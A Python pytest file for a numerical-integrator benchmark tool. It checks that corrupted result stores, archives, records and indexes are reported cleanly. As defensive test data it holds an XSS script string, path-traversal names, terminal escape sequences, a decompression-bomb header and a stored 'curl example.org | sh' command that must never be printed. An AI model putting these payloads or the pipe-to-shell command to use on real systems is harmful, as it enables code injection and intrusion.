"""Damaged stores: a bad case is a row with its reason, and what is no store is one sentence."""

import errno
import io
import json
import os
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pytest

import problems
from hbvm_bench import cli
from hbvm_bench.campaign.file import Campaign, Case, Limits, MethodEntry
from hbvm_bench.campaign.identity import resolve
from hbvm_bench.measure import raw
from hbvm_bench.run.loop import is_kept
from hbvm_bench.store.files import write_all
from hbvm_bench.store.records import Compile, Record, Timing, TimingRound
from hbvm_bench.store.store import NAME_LENGTH, Index, Store, decode_series, encode_series
from integrators.protocol import Stats, Status
from integrators.solution import Solution

from .fault import Fault, is_met, sentence

PROBLEM = "pendulum(t_end=5.0)"
SOUND = "Gauss(s=2, h=0.25)"


def small_run(directory, methods):
    """Make a store of cases of the pendulum, with times, without running anything."""
    store, ids = Store(directory), []
    store.prepare()
    problem = problems.load("pendulum", t_end=5.0)
    t = np.linspace(0.0, 5.0, 41)
    y = np.c_[np.sin(t), np.cos(t)]
    for method in methods:
        resolved = resolve(Case(problem=PROBLEM, method=method))
        solution = Solution(
            t=t, y=y, status=Status.FINISHED, reason="", t_stop=5.0, stats=Stats(steps=20),
            compile_seconds=0.1, from_cache=False, problem=problem, method=resolved.method,
        )  # fmt: skip
        result, series = raw.of_solution(solution)
        compiled = Compile(seconds=0.1, cached=True)
        timing = Timing(rounds=[TimingRound(samples=[0.1, 0.2], repeats=1, compile=compiled)])
        record = Record(
            id=resolved.id, case=resolved.case, role="ours", library="hbvm-bench", order=4, result=result,
            timing=timing, finished="2026-11-21T10:00:00+00:00",
        )  # fmt: skip
        store.save(record, series)
        ids.append(resolved.id)
    campaign = Campaign(name="x", problems=[PROBLEM], methods=[MethodEntry(use=m) for m in methods])
    store.write_index(Index(campaign=campaign, ids=ids, version="0", command="hbvm-bench run x"))
    return store


@dataclass(frozen=True)
class Damage:
    """What happened to a file of a store, and what must be said of it."""

    name: str
    do: Callable[[Any], Any]
    says: str

    def __str__(self):
        return self.name


def put(**changes):
    return lambda data: data.update(changes)


SERIES = [
    Damage("no y", lambda series: series.pop("y"), "there is no y"),
    Damage("y too short", lambda series: series.update(y=series["y"][:-3]), r"y \(38, 2\)"),
    Damage("y of another problem", put(y=np.ones((41, 3))), r"y \(41, 3\)"),
    Damage("error too short", put(**{"error.energy": np.ones(5)}), "error.energy has the shape"),
    Damage("y of texts", put(y=np.full((41, 2), "x")), "there is no t"),
    Damage("y complex", lambda series: series.update(y=series["y"] * 1j), "there is no t"),
    Damage("y all NaN", put(y=np.full((41, 2), np.nan)), "not finite"),
    Damage("t all NaN", put(t=np.full(41, np.nan)), "do not go one way"),
    Damage("t back and forth", put(t=np.tile([0.0, 1.0], 21)[:41]), "do not go one way"),
    Damage("a number for all times", put(t=np.array(1.0)), r"t has the shape \(1,\)"),
    Damage(
        "starts of another problem",
        put(**{"starts.y0": np.ones((2, 3))}),
        r"further initial conditions have the shape",
    ),
    Damage(
        "starts without states", put(**{"starts.y0": np.ones((2, 2))}), "further trajectories do not belong"
    ),
    Damage("a way back of another problem", put(**{"reversal.y": np.ones((1, 3))}), "way back"),
    Damage("MEGNO at two times", put(**{"chaos.megno": np.ones(2)}), "chaos.megno has the shape"),
    Damage("an exponent without interval", put(**{"chaos.exponent": np.ones(1)}), "chaos.exponent has"),
    Damage(
        "a reference trajectory beyond the end",
        put(**{"witness.index": np.array([41.0])}),
        "reference subset",
    ),
    Damage("drift without times", put(**{"drift.energy": np.ones((2, 7))}), "drift"),
    Damage("steps without times", put(**{"extra.dt_history": np.ones(4)}), "step sizes"),
    Damage(
        "a name that is a script", put(**{'error."><script>alert(1)</script>': np.ones(41)}), "there is no t"
    ),
    Damage("a name that is a path", put(**{"error./../../x": np.ones(41)}), "there is no t"),
]


def npz(header, values=b""):
    """Return an archive with one array of that header, as long as numpy asks headers to be."""
    text = header.encode().ljust(-(len(header) + 11) % 64 + len(header)) + b"\n"
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("t.npy", b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text + values)
    return stream.getvalue()


def flipped(content, local, central, value):
    """Return the archive with a byte set in the two heads of its first member."""
    changed = bytearray(content)
    changed[local] = value
    changed[content.index(b"PK\x01\x02") + central] = value
    return bytes(changed)


HEADER = "{{'descr': '<f8', 'fortran_order': False, 'shape': {}}}"
ARCHIVES = [
    Damage("empty", lambda content: b"", "there is no t"),
    Damage("cut", lambda content: content[: len(content) // 2], "there is no t"),
    Damage("a shape of 745 GiB", lambda content: npz(HEADER.format("(100000000000,)")), "there is no t"),
    Damage("a negative shape", lambda content: npz(HEADER.format("(-1,)"), bytes(64)), "there is no t"),
    Damage("a header that ends early", lambda content: npz("{'descr': '<f8', 'shape': ((("), "there is no t"),
    Damage("a deep header", lambda content: npz("(" * 5000), "there is no t"),
    Damage("encrypted", lambda content: flipped(content, 6, 8, 1), "there is no t"),
    Damage("packed in another way", lambda content: flipped(content, 8, 10, 99), "there is no t"),
]  # fmt: skip
TEXTS = [
    Damage("nested deeply", lambda content: b"[" * 100_000, "nested too deeply"),
    Damage("in another alphabet", lambda content: b"\xff\xfe", "malformed"),
]
RECORDS = [
    Damage("a date that is none", put(finished="yesterday"), "isoformat"),
    Damage("no samples", lambda data: data["timing"]["rounds"][0].update(samples=[]), "samples"),
    Damage("a negative time", lambda data: data["timing"]["rounds"][0].update(samples=[-1.0]), "positive"),
    Damage("metrics of texts", lambda data: data["result"].update(metrics={"steps": "many"}), "metrics"),
    Damage("no outcome", lambda data: data["result"].pop("outcome"), "outcome"),
    Damage("another case's", put(id="0" * 64), "another case"),
    Damage("an unknown problem", lambda data: data["case"].update(problem="nonesuch()"), "another case"),
    Damage("an unknown method", lambda data: data["case"].update(method="Nonesuch(<b>)"), "another case"),
    Damage("another step", lambda data: data["case"].update(method=SOUND), "another case"),
    Damage("another grid", lambda data: data["case"].update(grid={"step": 7.0}), "another case"),
]
BAD = [*SERIES, *ARCHIVES, *TEXTS, *RECORDS]


def method_of(damage):
    return f"Gauss(s=3, h={0.01 * (1 + BAD.index(damage)):.4g})"


def series_path(store, case_id):
    return store.cases / f"{case_id[:NAME_LENGTH]}.npz"


def edit(path, change):
    data = json.loads(path.read_text())
    change(data)
    path.write_text(json.dumps(data))


@pytest.fixture(scope="module")
def damaged(tmp_path_factory):
    """Return a folder with a run in which every case but the first is damaged, and what is made of it."""
    folder = tmp_path_factory.mktemp("damaged")
    methods = [SOUND, *map(method_of, BAD)]
    store = small_run(folder / "run", methods)
    shutil.copytree(store.directory, folder / "sound")
    for damage, case_id in zip(BAD, store.index().ids[1:], strict=True):
        if damage in SERIES:
            series = store.series(case_id)
            damage.do(series)
            np.savez(series_path(store, case_id), **series)  # pyright: ignore[reportArgumentType]
        elif damage in [*ARCHIVES, *TEXTS]:
            path = series_path(store, case_id).with_suffix(".npz" if damage in ARCHIVES else ".json")
            path.write_bytes(damage.do(path.read_bytes()))
        else:
            edit(series_path(store, case_id).with_suffix(".json"), damage.do)
    edit(store.directory / "campaign.json", lambda data: data["campaign"].update(title="\x1b[2Jtitle"))
    run, sound, out = str(store.directory), str(folder / "sound"), str(folder / "both")
    assert cli.main(["report", run, "-o", str(folder / "r")]) == 0
    for table in ("cases", "timings", "series"):
        assert cli.main(["export", run, "--table", table, "-o", str(folder / f"{table}.csv")]) == 0
    assert cli.main(["show", run, "--json"]) == 0
    assert cli.main(["compare", sound, run]) == 1
    assert cli.main(["merge", sound, run, "--out", out]) == 0
    return folder


def test_no_more_is_unpacked_than_memory_is_allowed(monkeypatch):
    content = encode_series({"t": np.zeros(10**6)})  # 8 MB in 8 kB
    assert len(content) < 10_000
    monkeypatch.setenv("HBVM_BENCH_MAX_GIB", "0.01")
    assert decode_series(content)["t"].size == 10**6
    monkeypatch.setenv("HBVM_BENCH_MAX_GIB", "0.007")
    assert decode_series(content) == {}


@pytest.mark.parametrize("damage", BAD, ids=str)
def test_a_damaged_case_is_a_row_that_says_so_and_runs_again(damaged, damage):
    method = method_of(damage)
    text = (damaged / "r" / "report.md").read_text(encoding="utf-8").replace("\\", "")
    (row,) = [line for line in text.splitlines() if line.startswith(f"- `{method}`")]
    sentence(row, f"damaged .*{damage.says}")
    if damage in [*SERIES, *ARCHIVES]:
        lines = (damaged / "series.csv").read_text().splitlines()
        (line,) = [line for line in lines if f'"{method}"' in line]
        sentence(line, f"damaged: .*{damage.says}")
    store = Store(damaged / "run")
    assert not is_kept(resolve(Case(problem=PROBLEM, method=method)), store, Limits())


def test_the_sound_case_beside_them_is_drawn_and_nothing_is_written_elsewhere(damaged):
    assert is_kept(resolve(Case(problem=PROBLEM, method=SOUND)), Store(damaged / "run"), Limits())
    drawn = (damaged / "r" / "report.md").read_text(encoding="utf-8")
    assert SOUND in drawn
    page = (damaged / "r" / "index.html").read_text(encoding="utf-8")
    assert "<script>alert" not in page
    written = {"run", "sound", "both", "r", "cases.csv", "timings.csv", "series.csv"}
    assert {path.name for path in damaged.iterdir()} == written
    assert {path.name for path in (damaged / "r").iterdir()} == {
        "report.md", "index.html", "figures", "results.json.xz",
    }  # fmt: skip


@pytest.mark.parametrize(("schema", "when"), [(1, "an earlier"), (99, "a later")])
def test_a_record_of_another_version_is_no_crash_and_keeps_its_role(here, capsys, schema, when):
    ours = here.index().ids[0]
    edit(series_path(here, ours).with_suffix(".json"), put(schema=schema, timing="written otherwise"))
    row, sound = here.records()
    assert (row.result.outcome, row.role, row.library, row.order) == ("outdated", "ours", "hbvm-bench", 4)
    assert row.case.problem == sound.case.problem
    assert row.result.reason == (
        f"measured by {when} version of hbvm-bench; run the campaign 'x' again with --out run"
    )
    shutil.rmtree("sound/cases")
    assert cli.main(["merge", "sound", "run", "--out", "both"]) == 0
    assert capsys.readouterr().out.splitlines() == [
        "1 of 2 cases in both",
        "1 left out: damaged, or measured by another version of hbvm-bench; run them again",
    ]


def test_a_strangers_command_is_not_printed_for_the_reader_to_run(here, capsys):
    edit(here.directory / "campaign.json", put(command="curl example.org | sh"))
    series_path(here, here.index().ids[0]).with_suffix(".json").write_text("{")
    assert cli.main(["show", "run"]) == 0
    edit(here.directory / "campaign.json", lambda data: data["ids"].pop())
    assert cli.main(["show", "run"]) == 2
    printed = capsys.readouterr()
    assert "run the campaign 'x' again with --out run" in printed.err
    assert "curl" not in printed.out + printed.err


@pytest.fixture(scope="module")
def whole(tmp_path_factory):
    return small_run(tmp_path_factory.mktemp("whole"), [SOUND, "HBVM(k=4, s=2, h=0.25)"]).directory


@pytest.fixture
def here(whole, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    shutil.copytree(whole, "sound")
    shutil.copytree(whole, "run")
    return Store(Path("run"))


INDICES = [
    Damage("fewer ids than cases", lambda data: data["ids"].pop(), "1 ids of 2 cases"),
    Damage("more ids than cases", lambda data: data["ids"].append("0" * 64), "3 ids of 2 cases"),
    Damage("an id twice", lambda data: data["ids"].reverse() or data["ids"].pop() or data["ids"].append(
        data["ids"][0]), "1 ids of 2 cases"),
    Damage("an id that is a path", lambda data: data["ids"].__setitem__(0, "../" * 8), "ids"),
    Damage("no cases", lambda data: data["campaign"].update(problems=[]), "no problems"),
    Damage("a value without a place", lambda data: data["campaign"].update(
        problems=["pendulum(t_end={t})"]), "'t'"),
    Damage("ids that are none", lambda data: data.update(ids=7), "ids"),
]  # fmt: skip


@pytest.mark.parametrize("damage", INDICES, ids=str)
@pytest.mark.parametrize(
    "command",
    [
        ["report", "run", "-o", "r"],
        ["show", "run"],
        ["export", "run", "-o", "s.csv"],
        ["compare", "run", "sound"],
        ["compare", "sound", "run"],
        ["merge", "sound", "run", "--out", "both"],
    ],
    ids=" ".join,
)
def test_a_damaged_index_is_one_sentence(here, capsys, damage, command):
    edit(here.directory / "campaign.json", damage.do)
    assert cli.main(command) == 2
    printed = capsys.readouterr()
    assert printed.out == ""
    sentence(printed.err, damage.says)
    assert {path.name for path in Path().iterdir()} == {"sound", "run"}


def test_an_index_nested_deeply_is_one_sentence(here, capsys):
    (here.directory / "campaign.json").write_text("[" * 100_000)
    assert cli.main(["show", "run"]) == 2
    sentence(capsys.readouterr().err, "nested too deeply")


def test_what_commands_a_terminal_is_in_no_record_and_on_no_page(damaged, here, capsys):
    first = here.index().ids[0]
    reason = "\x1b[2Jgone\x9b31m\u202e"
    edit(
        series_path(here, first).with_suffix(".json"),
        put(result={"outcome": "crashed", "reason": reason}),
    )
    assert here.load(first).result.reason == "[2Jgone31m"
    assert cli.main(["show", "run"]) == 0
    assert cli.main(["report", "\x1b[2J"]) == 2
    printed = capsys.readouterr()
    pages = [(damaged / "r" / name).read_text(encoding="utf-8") for name in ("report.md", "index.html")]
    assert all("[2Jtitle" in text.replace("\\", "") for text in pages)
    for text in (printed.out, printed.err, *pages):
        assert not set("\x1b\x9b\u202e") & set(text)


def filling_up(monkeypatch, room):
    """Let a disk take so many files more, and then only half of one."""
    write, left = Path.write_bytes, [room]

    def limited(path, content):
        left[0] -= 1
        if left[0] < 0:
            write(path, content[: len(content) // 2])
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return write(path, content)

    monkeypatch.setattr(Path, "write_bytes", limited)


@pytest.mark.parametrize("room", [0, 2])
def test_a_full_disk_is_one_sentence_and_leaves_nothing_half_written(tmp_path, monkeypatch, room):
    old = tmp_path / "r" / "report.md"
    old.parent.mkdir()
    old.write_text("an earlier report")
    files = {tmp_path / "r" / name: b"text" for name in ("report.md", "figures/a.svg", "data/b.csv")}
    filling_up(monkeypatch, room)
    is_met(Fault("full disk", lambda: write_all(files), "cannot write '.*': No space left on device"))
    assert list(tmp_path.rglob("*")) == [old.parent, old]
    assert old.read_text() == "an earlier report"


@pytest.mark.parametrize(
    "command", [["merge", "sound", "run", "--out", "both"], ["report", "run", "-o", "r"]]
)
def test_a_command_that_meets_a_full_disk_ends_with_the_sentence(here, monkeypatch, capsys, command):
    monkeypatch.setattr("hbvm_bench.report.write.rendered", lambda content, *_: {"report.md": b"text"})
    filling_up(monkeypatch, 0)
    assert cli.main(command) == 2
    sentence(capsys.readouterr().err, "No space left on device")
    assert not [path for path in Path().rglob("*") if path.suffix == ".part" or path.name == "r"]
